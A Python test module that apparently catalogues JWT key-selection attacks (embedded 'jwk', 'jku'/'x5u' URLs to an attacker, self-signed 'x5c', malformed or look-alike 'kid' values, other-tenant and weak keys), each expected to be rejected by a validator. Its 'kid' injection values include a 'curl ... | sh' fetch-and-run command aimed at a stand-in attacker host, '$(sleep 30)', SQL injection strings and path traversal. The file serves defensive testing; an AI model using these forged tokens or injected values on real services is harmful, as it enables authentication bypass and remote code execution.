"""Key-selection attacks: the token picking its own key (RFC 7515 §4.1.2-§4.1.6, RFC 8725 §3.10).

Embedded ``jwk``, ``jku``, ``x5u`` and ``x5c``; ``kid`` injection, wrong types, unknown and look-alike
``kid``s; keys that are not the tenant's current signing key: an attacker's, another tenant's, a weak
one under a trusted ``kid``, a withdrawn one. Keys the JWKS itself publishes but must not be used
(rule 4 of docs/validation-policy.md) are in ``keyset``.
"""

from __future__ import annotations

from collections.abc import Callable

from fake_issuer.attacks.catalog import Build, attack, rejected
from fake_issuer.attacks.forgery import (
    ATTACKER_CERT_URL,
    ATTACKER_JWKS_URL,
    ATTACKER_ORIGIN,
    attacker_key,
    certificate_chain,
    splice,
    weak_key,
)
from fake_issuer.issuer import DEFAULT_AUDIENCE, FakeIssuer

OTHER_TENANT = "https://other-tenant.auth0.test/"


def _signed_by_attacker(**header: object) -> Build:
    return lambda issuer: issuer.mint(key=attacker_key(), header=header)


def _trusted(header: dict[str, object]) -> Build:
    return lambda issuer: issuer.mint(key=attacker_key(), header={"kid": issuer.signing_key.kid, **header})


@attack(
    "jwk-embedded",
    "attacker key signs, its public JWK embedded as 'jwk'",
    "RFC 8725 §3.10; CVE-2018-0114",
    rejected(3),
)
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(key=attacker_key(), header={"jwk": attacker_key().public_jwk()})


@attack(
    "jwk-embedded-trusted-kid", "embedded attacker JWK under the issuer's kid", "CVE-2026-27962", rejected(3)
)
def _(issuer: FakeIssuer) -> str:
    jwk = {**attacker_key().public_jwk(), "kid": issuer.signing_key.kid}
    return issuer.mint(key=attacker_key(), header={"kid": issuer.signing_key.kid, "jwk": jwk})


@attack(
    "jwk-embedded-issuer-key",
    "genuine token that also embeds the issuer's own JWK",
    "RFC 8725 §3.10",
    rejected(3),
)
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(header={"jwk": issuer.signing_key.public_jwk()})


attack(
    "jku-attacker",
    "attacker key signs, 'jku' names the attacker's JWKS",
    "RFC 7515 §4.1.2; RFC 8725 §3.10",
    rejected(3),
)(_signed_by_attacker(jku=ATTACKER_JWKS_URL))
attack(
    "jku-attacker-trusted-kid", "'jku' to the attacker's JWKS, issuer's kid", "RFC 8725 §3.10", rejected(3)
)(_trusted({"jku": ATTACKER_JWKS_URL}))
attack(
    "x5u-attacker",
    "attacker key signs, 'x5u' names the attacker's certificate",
    "RFC 7515 §4.1.5",
    rejected(3),
)(_signed_by_attacker(x5u=ATTACKER_CERT_URL))


@attack(
    "jku-issuer-jwks", "genuine token naming the issuer's own JWKS in 'jku'", "RFC 8725 §3.10", rejected(3)
)
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(header={"jku": issuer.jwks_url})


@attack(
    "jku-open-redirect",
    "'jku' on the issuer's host redirecting to the attacker",
    "RFC 8725 §3.10",
    rejected(3),
)
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(
        key=attacker_key(), header={"jku": f"{issuer.issuer}logout?returnTo={ATTACKER_JWKS_URL}"}
    )


@attack(
    "x5c-self-signed",
    "attacker key signs, its self-signed certificate in 'x5c'",
    "RFC 7515 §4.1.6",
    rejected(3),
)
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(key=attacker_key(), header={"x5c": certificate_chain(attacker_key())})


@attack(
    "x5c-trusted-kid", "self-signed attacker 'x5c' under the issuer's kid", "RFC 7515 §4.1.6", rejected(3)
)
def _(issuer: FakeIssuer) -> str:
    chain = certificate_chain(attacker_key())
    return issuer.mint(key=attacker_key(), header={"kid": issuer.signing_key.kid, "x5c": chain})


def _kid(value: object) -> Build:
    return lambda issuer: issuer.mint(header={"kid": value})


_INJECTIONS = {
    "path-traversal": "../../../../../../../dev/null",
    "sql-tautology": "' OR '1'='1",
    "shell-pipe": f"key|curl {ATTACKER_ORIGIN}/x|sh",
    "shell-sleep": "$(sleep 30)",
    "url": ATTACKER_JWKS_URL,
    "empty": "",
}
for _name, _value in _INJECTIONS.items():
    attack(
        f"kid-{_name}",
        f"kid {_value!r}, signed by the issuer's key",
        "RFC 7515 §4.1.4; RFC 8725 §3.10",
        rejected(3),
    )(_kid(_value))


def _typed_kid(wrap: Callable[[str], object]) -> Build:
    return lambda issuer: issuer.mint(header={"kid": wrap(issuer.signing_key.kid)})


_WRONG_TYPES: dict[str, Callable[[str], object]] = {
    "int": lambda kid: 1,
    "null": lambda kid: None,
    "bool": lambda kid: True,
    "array": lambda kid: [kid],
    "object": lambda kid: {"kid": kid},
}
for _name, _wrap in _WRONG_TYPES.items():
    attack(
        f"kid-{_name}",
        f"kid of JSON type {_name} (wrapping the issuer's kid if it can)",
        "RFC 7515 §4.1.4",
        rejected(3),
    )(_typed_kid(_wrap))


@attack("kid-dev-null-hs256", "kid '/dev/null', HS256 with an empty secret", "RFC 8725 §3.10", rejected(3))
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(alg="HS256", secret=b"", header={"kid": "../../../../../../../dev/null"})


@attack(
    "kid-sql-union-hs256",
    "kid selecting 'secret' by SQL UNION, HS256 keyed 'secret'",
    "RFC 8725 §3.10",
    rejected(3),
)
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(alg="HS256", secret=b"secret", header={"kid": "x' UNION SELECT 'secret' -- "})


attack("kid-huge", "kid of one million characters", "RFC 7515 §4.1.4; CVE-2025-61920", rejected(3))(
    _kid("k" * 1_000_000)
)


@attack("kid-unknown", "genuine signature, kid names no key of the issuer", "RFC 7515 §4.1.4", rejected(3))
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(header={"kid": "no-such-key"})


@attack("kid-missing", "genuine signature, no kid", "RFC 7515 §4.1.4", rejected(3))
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(drop_header=["kid"])


@attack("kid-trailing-space", "the issuer's kid with a trailing space", "RFC 7519 §7.3", rejected(3))
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(header={"kid": issuer.signing_key.kid + " "})


@attack("kid-case-swapped", "the issuer's kid with letter case swapped", "RFC 7519 §7.3", rejected(3))
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(header={"kid": issuer.signing_key.kid.swapcase()})


@attack("kid-zero-width", "the issuer's kid with a zero-width space appended", "RFC 7519 §7.3", rejected(3))
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(header={"kid": issuer.signing_key.kid + "\u200b"})


@attack(
    "duplicate-kid",
    'header {"kid":"<attacker>","kid":"<issuer>"}, signed by the issuer',
    "RFC 7515 §5.2; RFC 8725 §3.10",
    rejected(2),
)
def _(issuer: FakeIssuer) -> str:
    kid = issuer.signing_key.kid
    return issuer.mint(raw_header=f'{{"alg":"RS256","kid":"{attacker_key().kid}","kid":"{kid}"}}'.encode())


attack(
    "attacker-key-trusted-kid",
    "attacker's RSA key signs under the issuer's kid",
    "RFC 7515 §5.2",
    rejected(5),
)(_trusted({}))


@attack(
    "other-tenant-key", "our claims signed by another tenant's key, its kid", "RFC 8725 §3.10", rejected(3)
)
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(key=FakeIssuer(OTHER_TENANT).signing_key)


@attack(
    "other-tenant-token",
    "another tenant's genuine token for the same audience",
    "RFC 8725 §2.8, §3.9",
    rejected(3),
)
def _(issuer: FakeIssuer) -> str:
    return FakeIssuer(OTHER_TENANT, audience=DEFAULT_AUDIENCE).mint()


@attack(
    "weak-key-trusted-kid", "1024-bit attacker key signs under the issuer's kid", "RFC 7518 §3.3", rejected(5)
)
def _(issuer: FakeIssuer) -> str:
    return issuer.mint(key=weak_key(), header={"kid": issuer.signing_key.kid})


@attack(
    "key-withdrawn",
    "signed by a key the issuer rotated out of its JWKS",
    "RFC 7517 §5; RFC 8725 §3.10",
    rejected(3),
)
def _(issuer: FakeIssuer) -> str:
    old = issuer.signing_key
    issuer.rotate()
    return issuer.mint(key=old)


@attack(
    "jwk-splice-genuine-signature",
    "genuine signature kept, 'jwk' added to the header",
    "CVE-2018-0114",
    rejected(3),
)
def _(issuer: FakeIssuer) -> str:
    return splice(issuer.mint(), header={**issuer.header(), "jwk": attacker_key().public_jwk()})
